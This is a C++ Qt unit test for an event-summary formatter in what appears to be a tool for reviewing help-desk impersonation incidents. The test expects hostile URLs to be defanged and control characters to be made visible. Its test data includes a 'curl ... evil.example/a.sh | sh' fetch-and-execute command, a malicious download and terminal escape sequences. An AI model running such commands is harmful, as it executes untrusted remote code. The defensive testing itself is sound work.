// SPDX-FileCopyrightText: Callwake contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "model/event.h"

#include <QTest>

using namespace callwake;
using namespace std::chrono_literals;

namespace {

Event activity(Kind kind, Activity a)
{
    Event e;
    e.kind = kind;
    e.what = std::move(a);
    return e;
}

Event inbound()
{
    Call call;
    call.direction = Direction::Inbound;
    call.outcome = Outcome::Answered;
    call.remote = {
        {1}, "+44 20 7946 0031", NumberClass::Telephone, NumberPlan::Valid, "+442079460031", "GB"};
    call.displayName = "IT Service Desk";
    Event e;
    e.kind = Kind::Call;
    e.length = 50min;
    e.what = call;
    return e;
}

} // namespace

class TestEvent : public QObject {
    Q_OBJECT

private slots:
    void calls()
    {
        Event e = inbound();
        QCOMPARE(summaryOf(e),
            std::string(
                "Inbound call from +44 20 7946 0031 \"IT Service Desk\", answered, 50 min 00 s"));
        std::get<Call>(e.what).remote = {{}, "anonymous", NumberClass::Withheld};
        std::get<Call>(e.what).displayName.clear();
        std::get<Call>(e.what).outcome = Outcome::AnsweredElsewhere;
        e.length = {};
        e.quality = Quality::LengthUnknown;
        QCOMPARE(summaryOf(e),
            std::string("Inbound call from a withheld number, answered elsewhere, length unknown"));
    }

    void activities()
    {
        QCOMPARE(summaryOf(activity(Kind::Navigation, {.url = "https://anydesk.com/en/downloads"})),
            std::string("anydesk[.]com/en/downloads"));
        QCOMPARE(summaryOf(activity(Kind::Execution, {.process = "C:\\Users\\a\\AnyDesk.exe"})),
            std::string("C:\\Users\\a\\AnyDesk.exe"));
        QCOMPARE(summaryOf(activity(
                     Kind::ShellCommand, {.command = "curl -s https://evil.example/a.sh | sh"})),
            std::string("curl -s hxxps://evil[.]example/a.sh | sh"));
        QCOMPARE(summaryOf(activity(
                     Kind::Download, {.url = "https://evil.example/a.exe", .path = "C:\\a.exe"})),
            std::string("Downloaded C:\\a.exe from evil[.]example/a.exe"));
        QCOMPARE(
            summaryOf(activity(Kind::PackageInstall, {.package = "anydesk", .version = "7.0"})),
            std::string("Installed anydesk 7.0"));
        QCOMPARE(summaryOf(activity(Kind::LogCleared, {})), std::string("Log cleared"));
        Activity reset{.account = "desk@northgate.example"};
        reset.result = "Reset user password";
        reset.peer = "ana@northgate.example";
        QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
            std::string(
                "Credential reset of ana@northgate.example by desk@northgate.example (Reset "
                "user password)"));
        for (const char* peer : {"198.51.100.9", "2001:db8::1", "Azure Portal", ""}) {
            reset.peer = peer;
            QCOMPARE(summaryOf(activity(Kind::CredentialReset, reset)),
                std::string("Credential reset desk@northgate.example (Reset user password)"));
        }
    }

    void hostileTextIsMadeVisible()
    {
        Event e = inbound();
        std::get<Call>(e.what).displayName = "Bank\xE2\x80\xAE\x1B[2J";
        QVERIFY(summaryOf(e).find("\"Bank[RLO]\\e[2J\"") != std::string::npos);
        const std::string longText(100'000, 'x');
        QVERIFY(summaryOf(activity(Kind::Execution, {.command = longText})).size() < 1000);
        QCOMPARE(summaryOf(activity(Kind::Execution, {.command = "http://a.example"})),
            std::string("hxxp://a[.]example"));
    }
};

QTEST_GUILESS_MAIN(TestEvent)
#include "tst_event.moc"
